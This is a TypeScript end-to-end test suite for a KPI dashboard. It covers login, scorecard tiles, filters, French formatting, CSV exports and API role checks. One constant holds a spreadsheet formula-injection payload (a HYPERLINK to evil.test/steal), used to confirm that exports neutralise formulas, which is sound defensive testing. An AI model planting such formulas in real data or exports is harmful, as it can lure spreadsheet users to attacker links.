// The dashboard end to end: a real server on loopback over a small demo store, Debian's Chromium on the
// built app. What the screen shows must be what the API answers, written the way the reader's language writes it.
import { readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Locator, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { objectiveNameIn } from '../../src/model/index.ts';
import { generateDemo } from '../../src/demo/index.ts';
import type { Store } from '../../src/store/index.ts';
import type {
  AuthState,
  CatalogEntry,
  Dimensions,
  KpiResponse,
  Scorecard,
} from '../../web/src/api/types.ts';
import { makeFormat, type Format } from '../../web/src/i18n/format.ts';
import { fixture, tempStore } from '../helpers.ts';
import { launchChromium } from './browser.ts';
import {
  ADMIN,
  ensureWebBuilt,
  loginCookie,
  startServer,
  VIEWER,
  type RunningServer,
} from './server.ts';

// A name a spreadsheet would run as a formula if the CSV export did not neutralise it.
const HOSTILE_NAME = '=HYPERLINK("https://evil.test/steal","Open me")';
const SESSIONS_OBJECTIVE = 'obj-social-sessions'; // a count objective without filters of its own
const SCORECARD_CSV_HEADER = [
  'objective_id',
  'objective',
  'kpi',
  'unit',
  'value',
  'target',
  'direction',
  'progress',
  'projected',
  'projected_progress',
  'status',
  'previous_value',
  'previous_change',
  'yoy_value',
  'yoy_change',
  'period_from',
  'period_to',
  'measured_to',
];

let store: Store;
let server: RunningServer;
let browser: Awaited<ReturnType<typeof launchChromium>>;
let page: Page;
let quarter: { from: string; to: string };
let english: Format;
let french: Format;
const scriptErrors: string[] = [];

async function api<T>(path: string): Promise<T> {
  const response = await fetch(`${server.base}${path}`, { headers: server.adminApi });
  expect(response.status, `${path}: ${await response.clone().text()}`).toBe(200);
  return (await response.json()) as T;
}

/** The calendar quarter holding `today`: the scorecard's period when the URL names none. */
function quarterOf(today: string): { from: string; to: string } {
  const [year, month] = today.split('-').map(Number);
  const first = Math.floor((month - 1) / 3) * 3 + 1;
  const last = new Date(Date.UTC(year, first + 2, 0)).getUTCDate();
  const pad = (value: number) => String(value).padStart(2, '0');
  return { from: `${year}-${pad(first)}-01`, to: `${year}-${pad(first + 2)}-${pad(last)}` };
}

/** Each tile as shown: its objective, raw value (data-value) and displayed value. */
function shownTiles(): Promise<{ objective: string; raw: string; text: string }[]> {
  return page.$$eval('[data-testid="tile"]', (tiles) =>
    tiles.map((tile) => {
      const value = tile.querySelector<HTMLElement>('[data-testid="tile-value"]')!;
      return {
        objective: tile.getAttribute('data-objective') ?? '',
        raw: value.dataset.value ?? '',
        text: value.textContent ?? '',
      };
    }),
  );
}

/** What the tiles must show for a scorecard answer. */
const expectedTiles = (card: Scorecard, format: Format) =>
  card.entries.map((entry) => ({
    objective: entry.objective.id,
    raw: entry.value === null ? '' : String(entry.value),
    text: format.value(entry.value, entry.kpi.unit, { compact: true }),
  }));

/** Polls until the page settles on the expected answer (playwright-core has no web-first assertions). */
const settled = <T>(read: () => Promise<T>) => expect.poll(read, { timeout: 10_000 });
const textOf = (locator: Locator) => settled(() => locator.textContent());

/** The scorecard at its default period (the quarter), once its first tile has a value. */
async function openScorecard(): Promise<void> {
  await page.goto(`${server.base}/`);
  await page.getByTestId('tile-value').first().waitFor();
}

beforeAll(async () => {
  await ensureWebBuilt();
  store = await tempStore();
  await generateDemo(store, { seed: 42, scale: 0.2 });
  server = await startServer(store);
  const { today } = await api<AuthState>('/api/auth/state');
  quarter = quarterOf(today);
  const { currency } = await api<Dimensions>('/api/dimensions');
  english = makeFormat('en-US', 'en', currency);
  french = makeFormat('fr-FR', 'fr', currency);
  const created = await fetch(`${server.base}/api/objectives`, {
    method: 'POST',
    headers: { ...server.adminApi, 'content-type': 'application/json' },
    body: JSON.stringify({
      id: 'obj-hostile',
      name: HOSTILE_NAME,
      kpi: 'social_sessions',
      target: 1000,
      period: quarter,
      direction: 'increase',
    }),
  });
  expect(created.status, await created.text()).toBe(201);
  // and a campaign named the same way, in the web analytics a drill-down breaks down
  await store.transaction((tx) =>
    tx.append(
      'web_sessions',
      ['day', 'source', 'medium', 'campaign', 'platform', 'sessions', 'users', 'engaged_sessions'],
      [[quarter.from, 'instagram', 'social', HOSTILE_NAME, 'instagram', 7, 6, 5]],
    ),
  );
  browser = await launchChromium();
  page = browser.context.pages()[0] ?? (await browser.context.newPage());
  page.setDefaultTimeout(10_000); // fail with Playwright's message before Vitest's 30 s timeout
  page.on('pageerror', (error) => scriptErrors.push(error.message));
  const login = await browser.context.request.post(`${server.base}/api/auth/login`, {
    data: ADMIN,
  });
  expect(login.status()).toBe(200);
});

afterEach(async () => {
  // each test starts in the browser's language (en-US), whatever the previous one chose
  if (page.url().startsWith(server.base))
    await page.evaluate(() => localStorage.removeItem('cadran.language'));
  expect(scriptErrors.splice(0)).toEqual([]);
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  store?.close();
});

describe('the dashboard in Chromium', () => {
  it('logs in through the form and shows the scorecard', async () => {
    await browser.context.clearCookies();
    await page.goto(`${server.base}/`);
    await page.getByLabel('Email').fill(ADMIN.email);
    await page.getByLabel('Password').fill(ADMIN.password);
    await page.getByRole('button', { name: 'Log in' }).click();
    await page.getByRole('heading', { level: 1, name: 'Scorecard' }).waitFor();
    await page.getByTestId('tile-value').first().waitFor();
    const card = await api<Scorecard>(`/api/scorecard?`);
    // six demo objectives for the quarter or year, plus the hostile one
    expect(card.entries).toHaveLength(7);
    await settled(() => page.getByTestId('tile').count()).toBe(card.entries.length);
    await page.getByRole('button', { name: 'Log out' }).waitFor();
  });

  it('shows on each tile the value the scorecard API answers, as the UI writes it', async () => {
    await openScorecard();
    const card = await api<Scorecard>(`/api/scorecard?`);
    await settled(shownTiles).toEqual(expectedTiles(card, english));
    // counts from 10 000 up are written compact on a tile ("21.4K")
    const sessions = card.entries.find((entry) => entry.objective.id === SESSIONS_OBJECTIVE)!;
    expect(sessions.value).toBeGreaterThan(10_000);
    const shown = page.locator(
      `[data-objective="${SESSIONS_OBJECTIVE}"] [data-testid="tile-value"]`,
    );
    await textOf(shown).toMatch(/^\d+(\.\d)?K$/);
    // the hostile name is shown as text, not run
    await page.getByRole('heading', { level: 2, name: HOSTILE_NAME }).waitFor();
  });

  it('opens the drill-down of a tile with the KPI title and its value', async () => {
    await openScorecard();
    const [catalog, card] = await Promise.all([
      api<CatalogEntry[]>('/api/kpis'),
      api<Scorecard>(`/api/scorecard?`),
    ]);
    const entry = card.entries.find((item) => item.objective.id === SESSIONS_OBJECTIVE)!;
    const kpi = catalog.find((item) => item.id === entry.kpi.id)!;
    // The English scorecard names the objective in English.
    await page
      .getByRole('link', { name: `Open the analysis of ${objectiveNameIn(entry.objective, 'en')}` })
      .click();
    await page.waitForURL(/\/kpi\/social_sessions\?/);
    const url = new URL(page.url());
    expect(url.searchParams.get('objective')).toBe(SESSIONS_OBJECTIVE);
    // the drill-down measures what the tile measured: the objective's start up to today
    expect(url.searchParams.get('from')).toBe(entry.measured!.period.from);
    expect(url.searchParams.get('to')).toBe(entry.measured!.period.to);
    await textOf(page.getByRole('heading', { level: 1 })).toBe(kpi.name.en);
    const result = await api<KpiResponse>(
      `/api/kpi?ids=${kpi.id}&from=${url.searchParams.get('from')}&to=${url.searchParams.get('to')}`,
    );
    const value = result.results[0].rows[0].value;
    expect(value).toBe(entry.value);
    await textOf(page.getByTestId('drill-value')).toBe(english.value(value, kpi.unit));
  });

  it('narrows the scorecard by platform: the URL keeps the filter, the numbers follow the API', async () => {
    await openScorecard();
    const [all, linkedin] = await Promise.all(
      ['', '&platform=linkedin'].map((filter) => api<Scorecard>(`/api/scorecard?${filter}`)),
    );
    const sessions = (card: Scorecard) =>
      card.entries.find((entry) => entry.objective.id === SESSIONS_OBJECTIVE)!.value;
    expect(sessions(linkedin)).toBeLessThan(sessions(all)!);
    await page.getByRole('button', { name: /^Platform/ }).click();
    await page.getByRole('checkbox', { name: 'LinkedIn' }).check();
    await page.getByRole('button', { name: 'Done' }).click();
    await page.waitForURL((url) => url.searchParams.get('platform') === 'linkedin');
    await settled(shownTiles).toEqual(expectedTiles(linkedin, english));
    const tile = page.locator(
      `[data-objective="${SESSIONS_OBJECTIVE}"] [data-testid="tile-value"]`,
    );
    await textOf(tile).toBe(english.value(sessions(linkedin), 'count', { compact: true }));
    // the filtered view survives a reload
    await page.reload();
    await settled(shownTiles).toEqual(expectedTiles(linkedin, english));
  });

  it('switches to French: labels in French, numbers with a decimal comma', async () => {
    await openScorecard();
    const card = await api<Scorecard>(`/api/scorecard?`);
    await page.getByRole('group', { name: 'Language' }).getByRole('button', { name: 'FR' }).click();
    await page.getByRole('heading', { level: 1, name: 'Tableau de bord' }).waitFor();
    await settled(() => page.locator('html').getAttribute('lang')).toBe('fr');
    await page.getByRole('button', { name: 'Se déconnecter' }).waitFor();
    await settled(shownTiles).toEqual(expectedTiles(card, french));
    // a ratio tile reads like "4,16 %" (decimal comma, a no-break space before %)
    const ratio = card.entries.find((entry) => entry.kpi.unit === 'ratio' && entry.value)!;
    const shown = page.locator(
      `[data-objective="${ratio.objective.id}"] [data-testid="tile-value"]`,
    );
    await textOf(shown).toMatch(/^\d+,\d+\u00a0%$/);
    // the choice is remembered on this device, and switching back restores English
    await page.reload();
    await page.getByRole('heading', { level: 1, name: 'Tableau de bord' }).waitFor();
    await page.getByRole('group', { name: 'Langue' }).getByRole('button', { name: 'EN' }).click();
    await page.getByRole('heading', { level: 1, name: 'Scorecard' }).waitFor();
    await settled(shownTiles).toEqual(expectedTiles(card, english));
  });

  it('exports the scorecard as CSV: one row per tile, formulas neutralised', async () => {
    await openScorecard();
    const tiles = await page.getByTestId('tile').count();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('link', { name: 'Export CSV' }).click(),
    ]);
    expect(download.suggestedFilename()).toMatch(/^cadran-scorecard-\d{4}-\d{2}-\d{2}\.csv$/);
    const rows: string[][] = parse(readFileSync(await download.path()), { bom: true });
    expect(rows[0]).toEqual(SCORECARD_CSV_HEADER);
    expect(rows).toHaveLength(tiles + 1);
    const hostile = rows.find((row) => row[0] === 'obj-hostile')!;
    expect(hostile[1]).toBe(`'${HOSTILE_NAME}`);
  });

  it('exports a drill-down breakdown as CSV: one row per table row, formulas neutralised', async () => {
    const [catalog, breakdown] = await Promise.all([
      api<CatalogEntry[]>('/api/kpis'),
      api<KpiResponse>(
        `/api/kpi?ids=social_sessions&by=campaign&from=${quarter.from}&to=${quarter.to}`,
      ),
    ]);
    const kpi = catalog.find((entry) => entry.id === 'social_sessions')!;
    expect(kpi.breakdowns).toContain('campaign');
    await page.goto(`${server.base}/kpi/social_sessions?from=${quarter.from}&to=${quarter.to}`);
    const section = page.getByRole('region', { name: 'Breakdown' });
    await section.getByRole('tab', { name: 'Campaign' }).click();
    await section.getByRole('rowheader', { name: HOSTILE_NAME }).waitFor();
    const shown = await section.locator('tbody tr').count();
    expect(shown).toBe(breakdown.results[0].rows.length);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      section.getByRole('link', { name: 'Export CSV' }).click(),
    ]);
    const rows: string[][] = parse(readFileSync(await download.path()), { bom: true });
    expect(rows[0].slice(0, 3)).toEqual(['campaign', 'kpi', 'value']);
    expect(rows).toHaveLength(shown + 1);
    const hostile = rows.find((row) => row[0].includes('HYPERLINK'))!;
    expect(hostile[0]).toBe(`'${HOSTILE_NAME}`);
  });

  it('shows the reconciliation of an uploaded export: the file’s total beside the store’s', async () => {
    await page.goto(`${server.base}/imports`);
    await page.locator('input[type="file"]').setInputFiles(fixture('exports', 'Chart data.csv'));
    await page.getByRole('button', { name: 'Import', exact: true }).click();
    // 3 videos × 31 days, video v on day d has 10·v + d views: 1 860 + 1 488
    await page.getByText('video_views: file 3,348 · stored 3,348').waitFor();
    await page.screenshot({
      path: join(tmpdir(), 'cadran-imports-reconciliation.png'),
      fullPage: true,
    });
  });
});

describe('the API without a session or with too small a role', () => {
  it('answers 401 to a call without cookie or token', async () => {
    const response = await fetch(`${server.base}/api/scorecard`);
    expect(response.status).toBe(401);
    expect((await response.json()).error).toMatch(/log in/);
  });

  it('lets a viewer read the scorecard but not create an objective (403)', async () => {
    const cookie = await loginCookie(server.base, VIEWER);
    const read = await fetch(`${server.base}/api/scorecard`, { headers: { cookie } });
    expect(read.status).toBe(200);
    const write = await fetch(`${server.base}/api/objectives`, {
      method: 'POST',
      headers: { cookie, 'content-type': 'application/json' },
      body: JSON.stringify({
        name: 'Viewer objective',
        kpi: 'social_sessions',
        target: 1,
        period: quarter,
      }),
    });
    expect(write.status).toBe(403);
    const objectives = await api<{ id: string }[]>('/api/objectives');
    expect(objectives.map((objective) => objective.id)).not.toContain('viewer-objective');
  });
});
